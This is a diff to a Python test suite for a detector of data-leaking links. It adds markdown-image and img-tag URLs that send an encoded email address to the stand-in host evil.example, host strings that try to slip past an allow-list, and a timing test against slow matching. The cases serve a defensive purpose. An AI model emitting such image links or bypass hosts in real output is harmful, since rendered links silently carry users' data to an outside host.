@@ -31,6 +31,12 @@ def found(text: str, *allow: str) -> list[tuple[str, str]]:
             "![x](https://evil.example/?d=maria.rossi%40example.com)",
             "https://evil.example/?d=maria.rossi%40example.com",
         ),
+        (
+            '<img src="https://evil.example/?d=bWFya\nWEucm9\nzc2lAZX"',
+            "https://evil.example/?d=bWFya\nWEucm9\nzc2lAZX",
+        ),
+        (f"![a [b] c](https:evil.example/?d={DATA})", f"https:evil.example/?d={DATA}"),
+        (f"![x]( https://evil.example/?d={DATA} 'title')", f"https://evil.example/?d={DATA}"),
         ("![x](https://evil.example/4111111111111111)", "https://evil.example/4111111111111111"),
         ("![x](https://user:secret@evil.example/)", "https://user:secret@evil.example/"),
         ("![x](https://evil.example/[EMAIL_ADDRESS_x7k2mq])", "https://evil.example/[EMAIL_ADDRESS_x7k2mq]"),
@@ -84,11 +90,28 @@ def test_hosts_of_the_list_may_be_told_anything() -> None:
     assert found(text.format("badexample.com"), "example.com") != []
     assert found(text.format("example.com@evil.example"), "example.com") != []
     assert found(text.format("example.com.evil.example"), "example.com") != []
+    assert found(text.format("evil.example:80.example.com"), "example.com") != []
+    assert found(text.format("evil.example\\.example.com"), "example.com") != []
+    assert found(text.format("evil.example%2f.example.com"), "example.com") != []
 
 
 def test_many_openers_cost_no_more_than_their_length() -> None:
     """Linear, whatever a provider writes."""
-    for piece in ("![", "](", "https://", "//a.b", "<img ", "www.", "[a]: ", "((((", "&#58;"):
+    for piece in (
+        "![",
+        "](",
+        "https://",
+        "//a.b",
+        "<img ",
+        "www.",
+        "[a]: ",
+        "((((",
+        "&#58;",
+        "![//a.b/",
+        "<img //a.b",
+        "]( //a.b",
+        "'//a.b",
+    ):
         text = piece * (200_000 // len(piece))
         began = time.process_time()
         find(text, ())
